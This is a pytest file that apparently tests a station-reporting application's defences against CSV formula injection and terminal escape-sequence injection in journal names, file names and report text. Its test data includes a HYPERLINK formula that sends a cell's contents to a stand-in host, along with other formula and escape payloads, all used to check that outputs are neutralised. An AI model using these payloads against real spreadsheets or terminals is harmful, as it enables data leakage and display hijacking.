"""The promise: no word that somebody else wrote becomes a formula or commands a terminal.

The attack: a journal under an unknown key calls itself `=HYPERLINK(...)` or begins its name with
an escape sequence. On version a9a29b6 the name stood in the report's CSV as it was, where a
spreadsheet computes it, and in the terminal, which obeys it.

Now a name that no public identity could have is refused at the source; every CSV of this program
is written by `csv_text`, which puts an apostrophe before what a spreadsheet would compute; and
what a terminal does not show, it is shown as an escape.
"""

import ast
import csv
import io
import re
from pathlib import Path

import pytest

from station_app.assembly.command_line import run
from station_app.domain.shown_text import csv_text
from tests.attacks.attacked_centre import AttackedCentre, MadeLog, a_day

PROGRAM = Path(__file__).parents[2] / "station_app"
NAMES = (
    '=HYPERLINK("http://x.test/?"&A2,"open")',
    "@SUM(1)",
    "-2-3",
    "|calc",
    "+1",
    "\x1b]0;owned\x07",
)
ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e")


def test_a_journal_that_calls_itself_a_formula(centre: AttackedCentre) -> None:
    good = a_day("9042-1", range(3))
    centre.pin(good)
    # An origin cannot hold a plus sign: no note could be signed.
    centre.lay(good, *(a_day(f"{name}-1", range(5, 7)) for name in NAMES if "+" not in name))
    codes = list(centre.collect(code=1).values())
    assert sorted(codes) == ["log_of_no_station"] * (len(NAMES) - 1) + ["new"]
    rows = list(csv.reader(io.StringIO(centre.run("report", "--csv", code=0))))
    assert [row[0] for row in rows] == ["precinct", "9042"]


def test_words_that_a_pinned_station_has_written(centre: AttackedCentre) -> None:
    log = a_day("9042-1", range(3))
    log.add_values(
        kind="difference_explained", what="\x1b[2J", expected=1, counted=2,
        reason="\x1b]0;owned\x07 \x9b31m \u202e",
    )  # fmt: skip
    log.take_over(MadeLog("9042-2"), origin="\x1b[31mred")
    centre.pin(log)
    centre.lay(log)
    centre.collect()
    for words in (("report",), ("report", "--precinct", "9042"), ("report", "--csv")):
        said = centre.run(*words, code=3)
        assert [one for one in ESCAPES if one in said] == []
    assert "\\x1b]0;owned\\x07" in centre.run("report", "--precinct", "9042", code=3)


def test_a_file_s_name_on_a_stick(centre: AttackedCentre) -> None:
    (centre.stick / "\x1b]0;owned\x07.journal.age").write_bytes(b"x")
    said = centre.run("collect", centre.stick, code=1)
    assert "\x1b" not in said
    assert "\\x1b]0;owned\\x07.journal.age" in said


@pytest.mark.parametrize("name", NAMES)
def test_a_cell(name: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([[name, f"\t{name}", -3]]), newline=""))
    assert not row[0].startswith(("=", "+", "-", "@", "|", "\t", "\r"))
    assert not row[1].startswith(("=", "+", "-", "@", "|", "\t", "\r"))
    assert row[2] == "-3"
    assert "\x1b" not in "".join(row)


def test_nothing_else_writes_csv() -> None:
    """One way to write cells: whoever adds a table finds it, or fails here."""
    writing = {
        path.relative_to(PROGRAM).as_posix()
        for path in PROGRAM.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name) and node.value.id == "csv"
    }  # fmt: skip
    assert writing == {"domain/shown_text.py"}


def test_no_command_writes_a_refusal_as_it_is() -> None:
    """It may name a file or a station of others; seven commands did so until the last review."""
    files = [*PROGRAM.glob("commands/**/*.py"), *PROGRAM.glob("assembly/*command*.py")]
    bare = re.compile(r"(?:print|echo)\(\s*(?:\w+\.)*message\b")
    assert [file.name for file in files if bare.search(file.read_text(encoding="utf-8"))] == []


def test_a_name_that_was_typed_at_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    name = "a\x1b]0;owned\x07.png"
    assert run(["explain", name, name, "--out", "x"]) != 0
    said = capsys.readouterr().err
    assert "owned" in said
    assert not any(one in said for one in ESCAPES)
